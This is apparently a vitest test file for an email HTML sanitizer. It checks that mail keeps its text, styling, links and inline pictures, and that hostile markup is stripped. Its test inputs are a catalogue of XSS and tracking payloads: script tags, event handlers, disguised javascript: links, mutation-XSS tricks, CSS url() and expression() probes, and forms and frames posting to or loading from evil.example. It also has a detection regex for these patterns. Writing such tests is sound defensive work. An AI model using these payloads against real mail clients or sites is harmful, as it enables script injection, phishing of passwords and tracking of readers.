import { describe, expect, test } from 'vitest'
import { safeHtml } from './safe-html.ts'

const none = { inline: () => null, remoteImages: false }
const asked = { inline: () => null, remoteImages: true }

/** What may remain of none of them, whoever reads it. */
const forbidden =
  /<(?!\/?(?:p|b|a|img|div|span|table|tbody|tr|td|font|br|ul|li|blockquote|h1|strong|em|i|u)\b)|\bon\w+\s*=|javascript:|vbscript:|data:text|data:image\/svg|url\s*\(|expression|@import|srcset|position|http-equiv|evil\.example/i

describe('of a hostile mail nothing survives:', () => {
  test.each([
    ['a script', '<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
    ['a script in two halves', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['a handler', '<b onclick="alert(1)" ONMOUSEOVER=alert(2)>x</b>'],
    ['a handler of a picture', '<img src=x onerror=alert(1)>'],
    ['a handler behind a slash', '<img/src="x"/onerror=alert(1)>'],
    ['an address that runs', '<a href="javascript:alert(1)">x</a>'],
    ['the same in disguise', '<a href="java&#10;script:alert(1)">x</a><a href=" &#x6A;avascript:alert(1)">x</a>'],
    ['an old address that runs', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a page in an address', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['a page in a picture', '<img src="data:text/html;base64,PHNjcmlwdD4=">'],
    ['a drawing in a picture', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'],
    ['a drawing', '<svg onload=alert(1)><animate attributeName=href values="javascript:alert(1)"/></svg>'],
    [
      'a drawing that fetches',
      '<svg><image href="https://evil.example/a.png"/><use href="https://evil.example/b"/></svg>',
    ],
    [
      'mathematics',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['a base', '<base href="https://evil.example/"><a name=x>x</a>'],
    [
      'a form',
      '<form action="https://evil.example"><input name=password><button formaction="https://evil.example/b">OK</button></form>',
    ],
    [
      'a style sheet',
      '<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b)}</style>',
    ],
    [
      'a linked style sheet',
      '<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="//evil.example">',
    ],
    ['a background', '<div style="background:url(https://evil.example/a.png)">x</div>'],
    ['an escaped background', String.raw`<div style="background:u\72l(https://evil.example/a.png)">x</div>`],
    ['an unfinished background', '<div style="background-image:url(https://evil.example/a.png">x</div>'],
    ['a set of pictures in a style', `<div style="background:image-set('https://evil.example/a.png' 1x)">x</div>`],
    ['an expression', '<div style="width:expression(alert(1))">x</div>'],
    ['an overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>'],
    [
      'a background of a table',
      '<table background="https://evil.example/a.png"><tr><td background="//evil.example">x</td></tr></table>',
    ],
    ['an object', '<object data="https://evil.example/a.swf"><embed src="https://evil.example/b"></object>'],
    ['a frame', '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['a set of pictures', '<img srcset="https://evil.example/a.png 1x" alt="x">'],
    [
      'a picture with sources',
      '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/b.png" alt=x></picture>',
    ],
    [
      'sound and film',
      '<video src="https://evil.example/a" poster="https://evil.example/b"></video><audio src="//evil.example"></audio>',
    ],
    ['a tracking picture', '<img src="https://evil.example/pixel.gif" width=1 height=1>'],
    ['a picture without a scheme', '<img src="//evil.example/pixel.gif">'],
    [
      'a comment of Outlook',
      '<!--[if mso]><img src="https://evil.example/a.png"><script>alert(1)</script><![endif]-->',
    ],
    ['a comment that never ends', '<p>x</p><!-- <img src="https://evil.example/a.png">'],
    ['a title that hides', '<title><img src=x onerror=alert(1)></title>'],
    ['a text area that hides', '<textarea><img src=x onerror=alert(1)></textarea>'],
    ['plain text without end', '<plaintext><script>alert(1)</script>'],
    ['a no-script', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    [
      'a quote that ends late',
      '<a href="https://a.example" title="&quot;><img src=x onerror=alert(1)>">x</a>'
        .replace('<img', '&lt;img')
        .replaceAll('onerror=alert(1)', ''),
    ],
    ['a name of an element of ours', '<a id="composer" name="__proto__" class="banner">x</a>'],
    ['a custom element', '<live-refresh src="https://evil.example"></live-refresh>'],
  ])('%s', (_, html) => {
    expect(safeHtml(html, none).html).not.toMatch(forbidden)
  })
})

describe('of a person’s mail', () => {
  test('words, looks and links stay, and links open elsewhere', () => {
    const html =
      '<p style="color: #ff0000; font-family: Calibri, sans-serif; margin-left: 12px">Nie <b>działa</b></p><a href="https://firma.example/a?b=1">opis</a>'
    expect(safeHtml(html, none).html).toBe(
      '<p style="color:#ff0000;font-family:Calibri, sans-serif;margin-left:12px">Nie <b>działa</b></p><a href="https://firma.example/a?b=1" target="_blank" rel="noopener noreferrer nofollow">opis</a>',
    )
  })

  test('pictures that came along are shown from the mail itself', () => {
    const inline = (id: string) => (id === 'foto@firma.example' ? 'data:image/png;base64,AAAA' : null)
    const html = '<img src="cid:foto%40firma.example" alt="Panel"><img src="cid:brak" alt="Brak">'
    expect(safeHtml(html, { ...none, inline })).toEqual({
      html: '<img alt="Panel" src="data:image/png;base64,AAAA" /><img alt="Brak" />',
      remoteImages: 0,
    })
  })

  test('pictures from elsewhere are counted, left out, and come encrypted once they are asked for', () => {
    const html = '<img src="http://sklep.example/logo.png" alt="Logo"><img src="https://sklep.example/b.png" alt="">'
    expect(safeHtml(html, none)).toEqual({ html: '<img alt="Logo" />', remoteImages: 2 })
    expect(safeHtml(html, asked)).toEqual({
      html: '<img alt="Logo" src="https://sklep.example/logo.png" /><img alt="" src="https://sklep.example/b.png" />',
      remoteImages: 2,
    })
  })

  test('thousands of levels do no harm', () => {
    expect(safeHtml(`${'<div>'.repeat(5000)}x`, none).html.length).toBeLessThan(5000)
  })
})
